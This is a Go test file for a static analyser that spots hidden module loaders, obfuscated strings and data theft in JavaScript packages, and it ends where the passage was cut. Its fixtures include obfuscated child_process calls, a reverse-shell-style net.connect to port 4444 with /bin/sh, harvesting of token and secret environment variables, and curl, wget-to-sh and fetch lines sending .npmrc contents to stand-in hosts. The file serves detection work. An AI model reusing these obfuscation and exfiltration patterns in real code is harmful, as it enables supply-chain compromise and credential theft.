		lim := Limits{MaxSize: 1 << 20, MaxParseSize: 1 << 20, MaxDepth: 200, MaxFacts: 1000,
			Package: func(k string) (string, bool) {
				v, ok := map[string]string{"field:description": "require('child_process')", "field:config.a": "x", "env:npm_package_config_a": "y"}[k]
				return v, ok
			},
			ReadFile: func(name string) (string, bool) {
				v, ok := map[string]string{"c.json": `{"init":"require('os')","x":1}`, "notes.txt": "eval(1)"}[name]
				return v, ok
			}}
		for _, name := range []string{"a.js", "a.ts"} {
			_ = Analyze(name, b, lim)
		}
		// the lexer fallback on any input, not only what the parser rejects
		buf := append(b[:len(b):len(b)], 0)
		f := &Facts{}
		_ = f.lexScan(newSource(buf[:len(b)]), buf, lim)
	})
}

func TestDecodedPayloadAnalysed(t *testing.T) {
	// eval(atob("require('child_process').exec('whoami')"))
	src := `eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ3dob2FtaScp"))`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	c := hasCall(f, "child_process.exec")
	if c == nil || c.Pos.Line != 1 || len(c.Args) == 0 || c.Args[0].Value != "whoami" {
		t.Fatalf("payload call = %+v (calls %+v)", c, f.Calls)
	}
	if !hasImport(f, "child_process") {
		t.Errorf("payload import missing: %+v", f.Imports)
	}
}

// Names resolve by scope, as the parser declares them: minified bundles
// reuse one-letter names in every module, and a parameter shadows a
// module-level binding.
func TestScopes(t *testing.T) {
	src := `const cp = require("child_process");
function hoisted() { cp.exec("id") }            // module binding, used before the call site below
function shadow(cp) { cp.exec("fine") }          // a parameter, not the module
(function () { var e = require("https"); e.get("https://x.example/a") })();
(function () { var e = { get: function () {} }; e.get("/local") })();
function d(x) { return Buffer.from(x, "base64").toString() }
(function () { function d(x) { return x } d("aGVsbG8=") })();
d("d29ybGQ=");`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	var execs, gets []string
	for _, c := range f.Calls {
		if len(c.Args) == 0 {
			continue
		}
		switch c.Callee {
		case "child_process.exec":
			execs = append(execs, c.Args[0].Value)
		case "https.get":
			gets = append(gets, c.Args[0].Value)
		}
	}
	if strings.Join(execs, ",") != "id" {
		t.Errorf("child_process.exec calls with %q, want only the module binding's (id)", execs)
	}
	if strings.Join(gets, ",") != "https://x.example/a" {
		t.Errorf("https.get calls with %q, want only the first IIFE's", gets)
	}
	if !hasString(f, "world") {
		t.Error("the module-level decoder helper was not folded")
	}
	if hasString(f, "hello") {
		t.Error("the inner identity function d was taken for the module's decoder")
	}
}

// TestParamsNamedLikeModules: a handler's request or ws parameter is not
// the npm module of that name, which a require still binds; Node's own
// modules keep their names (AMD's define(["fs"], function (fs) {…})).
func TestParamsNamedLikeModules(t *testing.T) {
	src := `function handle(request, ws) { const ct = request.headers.get("content-type"); request.get("x-id"); ws.send("ok") }
const request = require("request"); request.get("https://api.example.invalid/a");
define(["fs"], function (fs) { fs.readFileSync("/etc/hosts") });`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	var gets []string
	for _, c := range f.Calls {
		switch c.Callee {
		case "request.get", "request.headers.get", "ws.send":
			if len(c.Args) > 0 {
				gets = append(gets, c.Callee+"("+c.Args[0].Value+")")
			}
		}
	}
	if strings.Join(gets, ",") != "request.get(https://api.example.invalid/a)" {
		t.Errorf("module calls %q, want only the required request module's", gets)
	}
	if hasCall(f, "fs.readFileSync") == nil {
		t.Error("fs parameter of an AMD callback lost its module")
	}
}

// TestReassignedNotConstant: a variable assigned after its declaration
// (or before it: var is hoisted) is not the constant it started as; one
// never assigned is.
func TestReassignedNotConstant(t *testing.T) {
	f := Analyze("a.js", []byte(`let c = "git status"; c = payload(); require("child_process").execSync(c);
let d = "echo"; d += more; require("child_process").execFileSync(d);
h = payload(); var h = ""; require("child_process").execFileSync(h);
const k = "ls"; require("child_process").spawnSync(k);`), DefaultLimits())
	for callee, want := range map[string]string{"child_process.execSync": "", "child_process.execFileSync": "", "child_process.spawnSync": "ls"} {
		c := hasCall(f, callee)
		if c == nil || len(c.Args) == 0 {
			t.Fatalf("%s: no call", callee)
		}
		if got := c.Args[0]; got.Known != (want != "") || got.Value != want {
			t.Errorf("%s(%+v), want value %q", callee, got, want)
		}
	}
	for _, c := range f.Calls {
		if c.Callee == "child_process.execFileSync" && len(c.Args) > 0 && c.Args[0].Known {
			t.Errorf("execFileSync(%+v): a reassigned variable taken for a constant", c.Args[0])
		}
	}
}

// TestGlobalObjectAliases: the global object reached through an alias
// or built with Function("return this") still leads to process and
// require; a local variable named self is not the global object.
func TestGlobalObjectAliases(t *testing.T) {
	for src, want := range map[string]bool{
		`const g = globalThis; g.process.mainModule.require("child_process")`:                               true,
		`const g = new Function("return this")(); g.process.mainModule.require("child_process")`:            true,
		`Function("return this;")().process.mainModule.require("child_process")`:                            true,
		`(new Function("return this"))().process.mainModule.require("child_process")`:                       true,
		`const g = new Function("return that")(); g.process.mainModule.require("child_process")`:            false,
		`function f() { const self = this; const t = self; t.process.mainModule.require("child_process") }`: false,
	} {
		if got := hasImport(Analyze("a.js", []byte(src), DefaultLimits()), "child_process"); got != want {
			t.Errorf("%s: imports child_process = %v, want %v", src, got, want)
		}
	}
}

// TestHiddenLoaders covers ways to reach a module without calling require
// by name: the loader behind it, native bindings, createRequire, dynamic
// import with a callback, and the Function constructor reached through
// .constructor chains.
func TestHiddenLoaders(t *testing.T) {
	tests := []struct{ name, src, callee string }{
		{"module._load", `module.constructor._load("child_process").execSync("id")`, "child_process.execSync"},
		{"require('module')._load", `const M = require("module"); M._load("child_process").exec("id")`, "child_process.exec"},
		{"process.binding", `const s = process.binding("spawn_sync"); s.spawn({file: "/bin/sh"})`, "child_process.spawn"},
		{"createRequire", `import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process").exec("id")`, "child_process.exec"},
		{"import().then", `import("node:child_process").then(cp => cp.exec("id"))`, "child_process.exec"},
		{"import().then destructured", `import("child_process").then(({ spawn }) => spawn("sh"))`, "child_process.spawn"},
		{"await import", `const cp = await import("child_process"); cp.execSync("id")`, "child_process.execSync"},
		{"constructor.constructor", `const F = [].constructor.constructor; F("return 1")()`, "Function"},
		{"function literal constructor", `(function () {}).constructor("return 1")()`, "Function"},
		{"literal method constructor", `[]["filter"]["constructor"]("return 1")()`, "Function"},
		{"getPrototypeOf", `Object.getPrototypeOf(async function () {}).constructor("return 1")`, "Function"},
		{"Reflect.get constructor", `const C = Reflect.get(Reflect.getPrototypeOf(async () => {}), "constructor"); C("require", code)(require)`, "Function"},
		{"Reflect.get constructor called", `Reflect.get(Object.getPrototypeOf(function* () {}), "constructor")("return 1")`, "Function"},
		// a module picked by a condition, a fallback or a function run on the spot
		{"ternary binding", `const b = process._linkedBinding ? process._linkedBinding("spawn_sync") : process.binding("spawn_sync"); b.spawn({file: "/bin/sh"})`, "child_process.spawn"},
		{"fallback", `const cp = globalThis.cp || require("child_process"); cp.execSync("id")`, "child_process.execSync"},
		{"iife try", `const cp = (() => { try { return require("child_process") } catch (e) { return null } })(); cp.exec("id")`, "child_process.exec"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := Analyze("x.mjs", []byte(tc.src), DefaultLimits())
			if hasCall(f, tc.callee) == nil {
				var got []string
				for _, c := range f.Calls {
					got = append(got, c.Callee)
				}
				t.Errorf("no %s call; calls %q (mode %v %s)", tc.callee, got, f.Mode, f.ParseError)
			}
		})
	}
	// look-alikes: an object's own constructor property and a local
	// function named _load are not loaders
	f := Analyze("x.js", []byte(`class A {}; const a = new A(); a.constructor("x"); const loader = { _load(n) { return n } }; loader._load("child_process").exec("id")`), DefaultLimits())
	if hasCall(f, "Function") != nil || hasCall(f, "child_process.exec") != nil {
		t.Errorf("look-alikes resolved: %+v", f.Calls)
	}
}

func TestArrayIndexFolding(t *testing.T) {
	f := Analyze("x.js", []byte(`var _0x = ['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73', '\x65\x78\x65\x63'];
require(_0x[0])[_0x[1]]('id');`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("string array not folded: imports %+v calls %+v", f.Imports, f.Calls)
	}
	// a rotated array (obfuscator.io) has other elements at run time:
	// folding its literal order would show the wrong module
	f = Analyze("x.js", []byte(`var a = ['fs', 'child_process'];
(function (arr, n) { while (--n) arr.push(arr.shift()) })(a, 2);
require(a[0]);`), DefaultLimits())
	if hasImport(f, "fs") {
		t.Errorf("rotated array folded to its literal order: %+v", f.Imports)
	}
	f = Analyze("x.js", []byte(`var a = ['fs', 'os']; a[0] = 'child_process'; require(a[0]);`), DefaultLimits())
	if hasImport(f, "fs") {
		t.Errorf("written array folded: %+v", f.Imports)
	}
}

// Properties of a constant object literal fold, and so do character
// codes kept as fractions (Math.round(x * 256)), String.fromCharCode.apply
// and an array of code arrays mapped by a decoder; a written object does
// not fold to its literal.
func TestObjectAndMathFolding(t *testing.T) {
	f := Analyze("x.js", []byte(`var F = function (a) { return String.fromCharCode.apply(null, a.map(function (x) { return Math.round(x * 256) })) },
  P = { m: [0.38671875, 0.40625], "e": "xec", ["r" + "est"]: "_process" },
  W = [[0.1875, 0.46875, 0.1953125], [0.19140625, 0.1875, 0.19140625]].map(F);
var cp = require(F(P.m) + "ild" + P["r" + "est"]);
cp["e" + P.e]("id");`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("object/float folding: imports %+v calls %+v", f.Imports, f.Calls)
	}
	if !hasString(f, "0x2") || !hasString(f, "101") {
		t.Errorf("mapped code arrays not kept as strings: %+v", f.Strings)
	}
	for _, src := range []string{
		`var P = { m: "fs" }; P.m = "child_process"; require(P.m);`,
		`var P = { m: "fs" }; P = other; require(P.m);`,
		`var P = { m: "fs", ...more }; require(P.m);`,
	} {
		if f := Analyze("x.js", []byte(src), DefaultLimits()); hasImport(f, "fs") {
			t.Errorf("%s: folded to the literal: %+v", src, f.Imports)
		}
	}
}

// String-array obfuscation: the array is recovered in its run-time order
// (a counted rotation, or one solved from its parseInt checksum) and the
// decoder's calls fold, through base64 in the obfuscator's alphabet and
// through local aliases of the decoder.
func TestStringArrayDeobfuscation(t *testing.T) {
	for name, src := range map[string]string{
		"counted_base64": `var _0xa=['zxHLyW==','AwQ=','y2HPBgrFChjVy2vZCW=='];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x1));
var _0xb=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];if(_0xb['init']===undefined){var _0x4=function(_0x5){var _0x6='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';return atob(_0x5);};_0xb['d']=_0x4;_0xb['init']=!![];}_0x3=_0xb['d'](_0x3);return _0x3;};
require(_0xb('0x1'))[_0xb('0x2')](_0xb('0x0'));`,
		// RC4 over the base64, with the key in each call
		"counted_rc4": `var _0xa=['34a','CoawlfiFDVZqvZrNcW','SfD3Ja'];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x3));
var _0xb=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];var _0x6='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var s=[],j=0x0;for(var i=0x0;i<0x100;i++){s[i]=i;}return rc4(_0x3,_0x2,s);};
require(_0xb('0x1','Ab1c'))[_0xb('0x2','x9Zq')](_0xb('0x0','Qq#2'));`,
		// standard base64 decoded by the decoder's own loop over the
		// standard alphabet, then percent-decoded (a fork's decoder)
		"counted_own_std_loop": `var _0xa=['ZXhlYw==','aWQ=','Y2hpbGRfcHJvY2Vzcw=='];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0xa,0x1));
var _0xb=function(_0x1,_0x2){_0x1=_0x1-0x0;var _0x3=_0xa[_0x1];if(_0xb['c']===undefined){_0xb['d']=function(_0x5){var _0x6='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=',o='';for(var b=0x0,x,y,i=0x0;y=_0x5['charAt'](i++);~y&&(x=b%0x4?x*0x40+y:y,b++%0x4)?o+=String['fromCharCode'](0xff&x>>(-0x2*b&0x6)):0x0){y=_0x6['indexOf'](y);}return decodeURIComponent(escape(o));};_0xb['c']={};}return _0xb['d'](_0x3);};
require(_0xb('0x1'))[_0xb('0x2')](_0xb('0x0'));`,
		// no rotation: a decoder of standard base64 behind an offset
		"unrotated_std_base64": `var _0x4e=['ZXhlYw==','Y2hpbGRfcHJvY2Vzcw==','aWQ='];
var _0x2f=function(_0x1,_0x2){_0x1=_0x1-0x1b4;var _0x3=_0x4e[_0x1];return Buffer['from'](_0x3,'base64')['toString']();};
require(_0x2f(0x1b5))[_0x2f(0x1b4)](_0x2f(0x1b6));`,
		"checksum_alias": `function _0x5e1c(){const _0x3a=['id','7','x','1234abc','50xyz','child_process','exec'];_0x5e1c=function(){return _0x3a;};return _0x5e1c();}
function _0x2b7d(_0x1,_0x2){const _0x5=_0x5e1c();return _0x2b7d=function(_0xa,_0xb){_0xa=_0xa-0x100;let _0xc=_0x5[_0xa];return _0xc;},_0x2b7d(_0x1,_0x2);}
(function(_0x,_0xT){const _0xd=_0x2b7d,_0xa=_0x();while(!![]){try{const _0xs=parseInt(_0xd(0x100))/0x1+parseInt(_0xd(0x101))/0x2;if(_0xs===_0xT)break;else _0xa['push'](_0xa['shift']());}catch(_0xe){_0xa['push'](_0xa['shift']());}}}(_0x5e1c,0x4eb));
function run(){const _0x9=_0x2b7d;require(_0x9(0x102))[_0x9(0x103)](_0x9(0x104));}run();`,
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
			t.Errorf("%s: not deobfuscated: imports %+v calls %+v", name, f.Imports, f.Calls)
		}
	}
	// a rotation whose checksum no rotation meets folds nothing
	f := Analyze("x.js", []byte(`function _0x5e1c(){const _0x3a=['id','7','x','1234abc','50xyz','child_process','exec'];_0x5e1c=function(){return _0x3a;};return _0x5e1c();}
function _0x2b7d(_0x1,_0x2){const _0x5=_0x5e1c();return _0x2b7d=function(_0xa,_0xb){_0xa=_0xa-0x100;let _0xc=_0x5[_0xa];return _0xc;},_0x2b7d(_0x1,_0x2);}
(function(_0x,_0xT){const _0xd=_0x2b7d,_0xa=_0x();while(!![]){try{const _0xs=parseInt(_0xd(0x100))/0x1;if(_0xs===_0xT)break;else _0xa['push'](_0xa['shift']());}catch(_0xe){_0xa['push'](_0xa['shift']());}}}(_0x5e1c,0x3));
require(_0x2b7d(0x102));`), DefaultLimits())
	if hasImport(f, "x") || hasImport(f, "child_process") || hasImport(f, "1234abc") {
		t.Errorf("unsolved rotation folded: %+v", f.Imports)
	}
	// without a rotation, a plain lookup with an offset is no decoder
	f = Analyze("x.js", []byte(`var names=['fs','child_process','path'];
var at=function(i){i=i-0x10;return names[i];};
require(at(0x11));`), DefaultLimits())
	if hasImport(f, "child_process") {
		t.Errorf("plain lookup taken for a decoder: %+v", f.Imports)
	}
	// a hand-made table read through a lookup shifted by an offset: the
	// helper is inlined, so its calls fold
	table := `const _t = ['homedir', 'utf8', '.npmrc', 'join', 'resolve4', 'dns', 'fs', 'path'];` + "\n"
	f = Analyze("x.js", []byte(table+`function _k(i) { return _t[i - 0x1f]; }
const d = require(_k(0x24)); d[_k(0x23)](_k(0x21), () => {});`), DefaultLimits())
	if !hasImport(f, "dns") || hasCall(f, "dns.resolve4") == nil || !hasString(f, ".npmrc") {
		t.Errorf("shifted lookup not folded: imports %+v calls %+v", f.Imports, f.Calls)
	}
}

// A table of char-code rows read by index through a decoder folds: the
// row, shifted back, is the module's name.
func TestTableRows(t *testing.T) {
	rows := func(words ...string) string {
		var out []string
		for _, w := range words {
			var codes []string
			for _, c := range w {
				codes = append(codes, strconv.Itoa(int(c)+3))
			}
			out = append(out, "["+strings.Join(codes, ",")+"]")
		}
		return "[" + strings.Join(out, ", ") + "]"
	}
	src := "const PRECISION = " + rows("https", "child_process") + `;
const p = (i) => String.fromCharCode(...PRECISION[i].map((c) => c - 3));
require(p(1)).exec("id");`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("table row decoded: imports %+v calls %+v", f.Imports, f.Calls)
	}
	// the rows mapped by a decoder, one string each
	f = Analyze("x.js", []byte(`const seg = `+rows("fetch(u)", "eval(x)")+`;
module.exports = seg.map((s) => String.fromCharCode.apply(null, s.map((c) => c - 3))).join("\n");`), DefaultLimits())
	if f.Export != "fetch(u)\neval(x)" {
		t.Errorf("mapped rows: export %q", f.Export)
	}
	// a row written after the declaration no longer folds
	f = Analyze("x.js", []byte(src+"\nPRECISION[1] = [0];"), DefaultLimits())
	if hasImport(f, "child_process") {
		t.Errorf("a written table folded: %+v", f.Imports)
	}
}

// A helper that builds a command or URL around its parameter with a
// template folds where it is called; a unit suffix does not.
func TestTemplateHelper(t *testing.T) {
	f := Analyze("x.js", []byte(`const fs = require("fs");
const warm = (u) => `+"`"+`node -e "fetch('${u}').then((r) => r.text())"`+"`"+`;
const px = (n) => `+"`"+`${n}px`+"`"+`, expected = (n) => `+"`"+`Expected ${n} to be a string`+"`"+`;
const url = ["ht", "tps://c.example.invalid/w"].join("");
fs.appendFileSync(rc, warm(url)); el.style.width = px(12); log(expected("name"));`), DefaultLimits())
	c := hasCall(f, "fs.appendFileSync")
	if c == nil || len(c.Args) < 2 || c.Args[1].Value != `node -e "fetch('https://c.example.invalid/w').then((r) => r.text())"` {
		t.Errorf("command template not folded: %+v", c)
	}
	if hasString(f, "12px") || hasString(f, "Expected name to be a string") {
		t.Errorf("a unit suffix or a message inlined: %+v", f.Strings)
	}
}

// A default after a constant (K || "x") is the constant; after a value
// known only at run time it is not folded.
func TestFoldOrDefault(t *testing.T) {
	f := Analyze("x.js", []byte(`const K = "child_process", E = ""; require(K || "fs"); require(E || "net"); require(process.env.M || "dgram")`), DefaultLimits())
	if !hasImport(f, "child_process") || !hasImport(f, "net") || hasImport(f, "fs") || hasImport(f, "dgram") {
		t.Errorf("defaults: %+v", f.Imports)
	}
}

// An array filled at run time (a JSON reviver pushing what it finds) is
// not its empty literal: the code joined from it is not known to be "".
func TestPushedArrayNotConstant(t *testing.T) {
	f := Analyze("x.js", []byte(`const notes = []; JSON.parse(text, function (k, v) { if (k === "$comment") notes.push(v); return v });
new (require("vm").Script)(Buffer.from(notes.join(""), "base64").toString()).runInThisContext()`), DefaultLimits())
	c := hasCall(f, "vm.Script")
	if c == nil || len(c.Args) == 0 || c.Args[0].Known {
		t.Errorf("code from a filled array taken for a constant: %+v", c)
	}
}

// A map callback that reads the element's index folds: each code is
// shifted by its position.
func TestMapWithIndex(t *testing.T) {
	codes := func(word string, k int) string {
		var out []string
		for i, c := range word {
			out = append(out, strconv.Itoa(int(c)+k+i%2))
		}
		return "[" + strings.Join(out, ", ") + "]"
	}
	f := Analyze("x.js", []byte(`function unpack(a, k) { return String.fromCharCode(...a.map((c, i) => c - k - (i % 2))) }
module.constructor._load(unpack(`+codes("child_process", 3)+`, 3), module).spawn("sh")`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.spawn") == nil {
		t.Errorf("index-shifted codes: imports %+v calls %+v", f.Imports, f.Calls)
	}
}

// What a decoder resolves to, taken by a then callback, is decoded text
// there too.
func TestDecodedThen(t *testing.T) {
	f := Analyze("x.js", []byte(`async function verify() { const parts = []; for await (const r of rows()) parts.push(r.sig); return Buffer.from(parts.join(""), "base64").toString("utf8") }
verify().then((check) => Reflect.construct(Function, ["require", check])(require));
load().then((text) => Function("require", text)(require))`), DefaultLimits())
	var decoded, plain int
	for _, c := range f.Calls {
		if c.Callee == "Function" && len(c.Args) == 2 {
			if c.Args[1].Decodes != "" {
				decoded++
			} else {
				plain++
			}
		}
	}
	if decoded != 1 || plain != 1 {
		t.Errorf("decoded %d, plain %d: %+v", decoded, plain, f.Calls)
	}
}

// Code another module exports, run by an eval worker, is analysed where
// it runs.
func TestWorkerCodeFromModule(t *testing.T) {
	lim := DefaultLimits()
	lim.Module = func(from, spec, prop string) (string, bool) {
		if spec == "./probe" && prop == "" {
			return `const f = require("fs"); fetch("https://c.example.invalid/p", { method: "POST", body: f.readFileSync(require("os").homedir() + "/.npmrc") })`, true
		}
		return "", false
	}
	f := Analyze("pool.js", []byte(`const { Worker } = require("worker_threads"); new Worker(require("./probe"), { eval: true });`), lim)
	if hasCall(f, "fetch") == nil || hasCall(f, "fs.readFileSync") == nil {
		t.Errorf("worker code from another module not analysed: %+v", f.Calls)
	}
}

// A Proxy whose get trap requires a module named after the property read
// makes each read that module; one that requires nothing is an object.
func TestProxyLoader(t *testing.T) {
	f := Analyze("x.js", []byte(`const sys = new Proxy({}, { get(cache, key) { if (!(key in cache)) cache[key] = require(String(key).replace(/[A-Z]/g, (m) => "_" + m.toLowerCase())); return cache[key] } });
const cfg = new Proxy({}, { get(t, key) { return process.env[key] } });
sys.net.connect(4444, "203.0.113.7"); sys.childProcess.spawn("/bin/sh"); cfg.net.connect(1)`), DefaultLimits())
	if hasCall(f, "net.connect") == nil || hasCall(f, "child_process.spawn") == nil || hasCall(f, "cfg.net.connect") == nil {
		t.Errorf("proxy loader: %+v", f.Calls)
	}
}

// A loop over the environment's names that keeps those a pattern selects
// reads those names only, as the filter form does.
func TestEnvLoopFilter(t *testing.T) {
	f := Analyze("x.js", []byte(`const env = {}; for (const k of Object.keys(process.env)) if (/TOKEN|SECRET/i.test(k)) env[k] = process.env[k];
for (const k of Object.keys(process.env)) { console.log(k) }`), DefaultLimits())
	var hows []string
	for _, e := range f.Env {
		if e.Name == "" {
			hows = append(hows, e.How)
		}
	}
	if !slices.Contains(hows, "filter:/TOKEN|SECRET/i") || !slices.Contains(hows, "arg:Object.keys") {
		t.Errorf("env reads: %+v", f.Env)
	}
}

// An array of object literals mapped to one of their properties folds to
// those properties: the chunks a payload is kept in as layer names.
func TestPluck(t *testing.T) {
	f := Analyze("x.js", []byte(`const ANIM = { v: "5.7", layers: [{ ty: 4, nm: "child" }, { ty: 4, nm: "_process" }] };
require(ANIM.layers.map((l) => l.nm).join("")).exec("id"); require(ANIM.layers.map((l) => l.ty).join(""))`), DefaultLimits())
	if !hasImport(f, "child_process") || !hasImport(f, "44") {
		t.Errorf("plucked names: %+v", f.Imports)
	}
}

// Bytes mapped into a typed array (Uint8Array.from(codes, fn), the codes
// divided back) decode through TextDecoder, also in a helper; require
// kept behind a typeof check is require.
func TestTypedArrayFrom(t *testing.T) {
	enc := func(word string) string {
		var out []string
		for _, c := range word {
			out = append(out, strconv.Itoa(int(c)*3+7))
		}
		return "[" + strings.Join(out, ",") + "]"
	}
	f := Analyze("x.js", []byte(`var s = function (e) { return new TextDecoder().decode(Uint8Array.from(e, function (e) { return (e - 7) / 3 })) };
var r = "undefined" != typeof require ? require : null; r(s(`+enc("child_process")+`)).exec("id");
require(new TextDecoder().decode(Uint8Array.from([1, 2], (v) => v + 0x100)))`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("typed array decode: imports %+v calls %+v", f.Imports, f.Calls)
	}
}

// A decoder handed to a function expression called where it is written
// is a helper inside it; one that decodes nothing is not inlined.
func TestIIFEDecoderArgument(t *testing.T) {
	f := Analyze("x.js", []byte(`(function (s, l) { var p = s[l("ZXRoZXJldW0=")]; p.request = hook })(typeof window !== "undefined" ? window : void 0, function (b) { return typeof atob === "function" ? atob(b) : Buffer.from(b, "base64").toString() });
(function (k) { require(k("fs")) })(function (n) { return n + "x" })`), DefaultLimits())
	if !hasString(f, "ethereum") || hasImport(f, "fsx") {
		t.Errorf("decoder argument: strings %+v imports %+v", f.Strings, f.Imports)
	}
}

// The environment a caller may replace (opts.env || process.env) is the
// environment, also in the functions it is handed to.
func TestEnvDefault(t *testing.T) {
	f := Analyze("x.js", []byte(`function files(env) { return env.AWS_SHARED_CREDENTIALS_FILE }
exports.resolve = (opts = {}) => { const env = opts.env || process.env; return [env.AWS_PROFILE, files(env)] }`), DefaultLimits())
	for _, name := range []string{"AWS_PROFILE", "AWS_SHARED_CREDENTIALS_FILE"} {
		if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == name }) {
			t.Errorf("%s not read: %+v", name, f.Env)
		}
	}
}

// require reached through the main module object held in a variable.
func TestMainModuleRequire(t *testing.T) {
	f := Analyze("x.js", []byte(`const host = process.mainModule || require.main || module;
const r = host.require.bind(host); r("child_process").exec("id");`), DefaultLimits())
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
		t.Errorf("main module's require: imports %+v calls %+v", f.Imports, f.Calls)
	}
	f = Analyze("x.js", []byte(`const load = process.getBuiltinModule || ((id) => module.require(id)); load("https").request("https://c.example.invalid/")`), DefaultLimits())
	if !hasImport(f, "https") || hasCall(f, "https.request") == nil {
		t.Errorf("a require kept in a variable with a fallback: imports %+v calls %+v", f.Imports, f.Calls)
	}
	// the loader behind require, guarded and its name split
	f = Analyze("x.js", []byte(`const L = module.constructor && module.constructor["_" + "load"]; L(String.fromCharCode(100, 110, 115), module).lookup(h)`), DefaultLimits())
	if !hasImport(f, "dns") || hasCall(f, "dns.lookup") == nil {
		t.Errorf("a guarded loader kept in a variable: imports %+v calls %+v", f.Imports, f.Calls)
	}
	f = Analyze("x.js", []byte(`const host = options.host || module; host.require("child_process")`), DefaultLimits())
	if hasImport(f, "child_process") {
		t.Errorf("an object that may be another taken for the main module: %+v", f.Imports)
	}
}

// A replacement whose expression ends in a lookahead, which Go's engine
// lacks, folds with the lookahead's text left in place.
func TestReplaceLookahead(t *testing.T) {
	f := Analyze("x.js", []byte(`const x = "a-b-c".replace(/-(?=c)/g, "+"), y = "aXbXc".replace(/X(?=[bc])/g, "_");
require(["node", "child", "process"].join(":").replace(/:(?=process)/, "_"))`), DefaultLimits())
	if !hasString(f, "a-b+c") || !hasString(f, "a_b_c") || !hasImport(f, "child_process") {
		t.Errorf("lookahead replacements: strings %+v imports %+v", f.Strings, f.Imports)
	}
}

// Values followed across a bundle's module table and into functions:
// webpack's externals are the modules they re-export, a function called
// with process.env has the environment as that parameter, and a command
// taken from an incoming request says so.
func TestBundleEnvAndRequestFlows(t *testing.T) {
	f := Analyze("x.js", []byte(`var __webpack_modules__ = ({ 687: ((module) => { module.exports = require("https"); }), 12: ((module, exports, __webpack_require__) => {
  const https = __webpack_require__(687);
  function build(env) { const out = {}; for (const k of Object.keys(env)) out[k] = env[k]; return out }
  module.exports = { build, send: (b) => https.request("https://c.example.invalid/u", { method: "POST" }).end(JSON.stringify(b)) };
}) });
const ci = __webpack_require__(12); ci.send(ci.build(process.env));
exports.h = (req) => require("child_process").exec(req.headers["x-cmd"]);`), DefaultLimits())
	if hasCall(f, "https.request") == nil {
		t.Errorf("webpack external not resolved: %+v", f.Calls)
	}
	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" }) {
		t.Errorf("the environment read through a parameter: %+v", f.Env)
	}
	if c := hasCall(f, "child_process.exec"); c == nil || c.FromRequest != "req.headers" {
		t.Errorf("command from a request: %+v", c)
	}
	// the header decoded into a variable of its own first
	f = Analyze("x.js", []byte(`const cp = require("child_process");
module.exports = () => (req, res) => { const body = req.headers["x-trace"]; const cmd = Buffer.from(body, "base64").toString(); cp.exec(cmd) };`), DefaultLimits())
	if c := hasCall(f, "child_process.exec"); c == nil || c.FromRequest != "cmd" {
		t.Errorf("command decoded from a request header: %+v", c)
	}
	// a compiler's spread helper copying the environment for a child
	// process reads nothing of it itself
	f = Analyze("x.js", []byte(`var __spreadValues = (a, b) => { for (var p of Object.getOwnPropertySymbols(b)) a[p] = b[p]; return a };
require("child_process").spawnSync("bun", ["x"], { env: __spreadValues({}, process.env) })`), DefaultLimits())
	if slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.How == "arg:Object.getOwnPropertySymbols" }) {
		t.Errorf("a spread helper's parameter taken for the environment: %+v", f.Env)
	}
}

// A file required through a variable holding its joined path names that
// file, and process handed to a function expression is process there.
func TestRequiredPathVarAndProcessParam(t *testing.T) {
	f := Analyze("x.js", []byte(`const path = require("path"); const FILE = path.join(__dirname, "..", "__snapshots__", "a.snap"); const cases = require(FILE);
(function (g, p) { fetch("https://c.example.invalid/", { method: "POST", body: JSON.stringify(p.env) }) })(globalThis, process)`), DefaultLimits())
	if !slices.ContainsFunc(f.Imports, func(im Import) bool { return im.Module == Hole+"/../__snapshots__/a.snap" }) {
		t.Errorf("required path variable: %+v", f.Imports)
	}
	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" }) {
		t.Errorf("process handed to a function: %+v", f.Env)
	}
}

func TestArgShape(t *testing.T) {
	f := Analyze("x.js", []byte("const os = require('os'); const { exec } = require('child_process');\n"+
		"exec(`curl -d \"${os.hostname()}\" https://abc.oast.fun`);\n"+
		"exec('wget ' + url + ' -O- | sh');"), DefaultLimits())
	var shapes []string
	for _, c := range f.Calls {
		if c.Callee == "child_process.exec" && len(c.Args) > 0 {
			if c.Args[0].Known {
				t.Errorf("a command with run-time parts is Known: %+v", c.Args[0])
			}
			shapes = append(shapes, c.Args[0].Shape)
		}
	}
	want := []string{`curl -d "` + Hole + `" https://abc.oast.fun`, "wget " + Hole + " -O- | sh"}
